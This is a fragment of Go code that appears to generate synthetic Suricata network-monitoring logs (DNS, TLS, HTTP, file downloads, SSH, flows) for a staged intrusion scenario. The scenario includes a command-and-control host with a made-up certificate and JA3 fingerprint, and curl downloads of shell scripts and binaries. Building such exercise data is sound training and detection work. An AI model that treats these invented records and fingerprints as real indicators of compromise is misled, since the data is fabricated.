	d := o("version", 3, "type", "response", "tx_id", 0, "id", 4000+s.intn(60000), "flags", "8180", "qr", true, "rd", true, "ra", true, "opcode", 0,
		"rcode", rc, "queries", list(o("rrname", name, "rrtype", qtype)))
	if ans != nil {
		d = d.with("answers", ans)
	}
	s.eve(t.Add(time.Millisecond), "dns", resolverIP, 53, src, sport, "UDP", "dns", d)
}

func (s *story) eveTLS(t time.Time, src string, sport int, dst string, dport int, sni, subject, issuer, version string, ja3 bool) {
	tls := o("subject", subject, "issuerdn", issuer, "serial", s.chars("0123456789ABCDEF", 2)+":"+s.chars("0123456789ABCDEF", 2)+":"+s.chars("0123456789ABCDEF", 2),
		"fingerprint", s.hex(2)+":"+s.hex(2)+":"+s.hex(2)+":"+s.hex(2)+":"+s.hex(2)+":"+s.hex(2), "sni", sni, "version", version,
		"notbefore", "2026-10-01T00:00:00", "notafter", "2026-12-30T23:59:59")
	if ja3 {
		tls = tls.with("ja3", o("hash", "e7d705a3286e19ea42f587b344ee6865", "string", "771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43,29-23-24,0"))
	}
	if sni == c2Name {
		tls = o("subject", subject, "issuerdn", issuer, "serial", "01", "fingerprint", "9a:0c:2e:4f:6b:8d:1a:3c:5e:7f:9b:2d:4f:6a:8c:0e:2b:4d:6f:8a",
			"sni", sni, "version", version, "notbefore", "2026-11-01T00:00:00", "notafter", "2036-10-30T00:00:00",
			"ja3", o("hash", "3b5074b1b5d032e5620f69f9f700ff0e", "string", "771,49196-49200-159-52393-52392-52394-49195-49199-158,0-11-10-35-22-23-13-43-45-51,29-23-1035-25-24,0-1-2"))
	}
	s.eve(t, "tls", src, sport, dst, dport, "TCP", "tls", tls)
}

func (s *story) eveHTTP(t time.Time, src string, sport int, dst string, dport int, host, url, ua, method string, status, length int) {
	s.eve(t, "http", src, sport, dst, dport, "TCP", "tx_id", 0, "http", o("hostname", host, "url", url, "http_user_agent", ua,
		"http_content_type", "text/html", "http_method", method, "protocol", "HTTP/1.1", "status", status, "length", length))
}

func (s *story) eveFile(t time.Time, client string, cport int, server, url, name, magic, md5, sha1, sha256 string, size int) {
	s.eve(t, "fileinfo", server, 80, client, cport, "TCP", "http", o("hostname", server, "url", url, "http_user_agent", curlUA, "http_method", "GET", "protocol", "HTTP/1.1", "status", 200, "length", size),
		"app_proto", "http", "fileinfo", o("filename", name, "magic", map[string]string{"text/x-shellscript": "POSIX shell script, ASCII text executable", "application/x-executable": "ELF 64-bit LSB executable, x86-64, statically linked, stripped"}[magic],
			"gaps", false, "state", "CLOSED", "md5", md5, "sha1", sha1, "sha256", sha256, "stored", false, "size", size, "tx_id", 0))
}

func (s *story) eveSSH(t time.Time, src string, sport int, dst, client string) {
	s.eve(t, "ssh", src, sport, dst, 22, "TCP", "ssh", o("client", o("proto_version", "2.0", "software_version", client),
		"server", o("proto_version", "2.0", "software_version", "OpenSSH_9.2p1 Debian-2+deb12u3")))
}

func (s *story) eveFlow(t time.Time, src string, sport int, dst string, dport int, app string, pktsTo, pktsFrom int, bytesTo, bytesFrom int64, start, end time.Time) {
	s.eve(t, "flow", src, sport, dst, dport, "TCP", "app_proto", app, "flow", o("pkts_toserver", pktsTo, "pkts_toclient", pktsFrom,
		"bytes_toserver", bytesTo, "bytes_toclient", bytesFrom, "start", start.Format("2006-01-02T15:04:05.000000-0700"),
		"end", end.Format("2006-01-02T15:04:05.000000-0700"), "age", int(end.Sub(start).Seconds()), "state", "closed", "reason", "timeout", "alerted", false),
		"tcp", o("tcp_flags", "1b", "tcp_flags_ts", "1b", "tcp_flags_tc", "1b", "syn", true, "fin", true, "psh", true, "ack", true, "state", "closed"))
}

func (s *story) eveStats(t time.Time) {
	up := int(t.Sub(at(6, 12, 40)).Seconds())
	s.eveRecs = append(s.eveRecs, rec{t: t, j: o("timestamp", t.Format("2006-01-02T15:04:05.000000-0700"), "event_type", "stats",
		"stats", o("uptime", up, "capture", o("kernel_packets", up*310, "kernel_drops", 0, "errors", 0),
			"decoder", o("pkts", up*310, "bytes", int64(up)*245000, "ipv4", up*309, "tcp", up*281, "udp", up*27),
			"flow", o("memuse", 7340032+s.intn(400000))))})
}
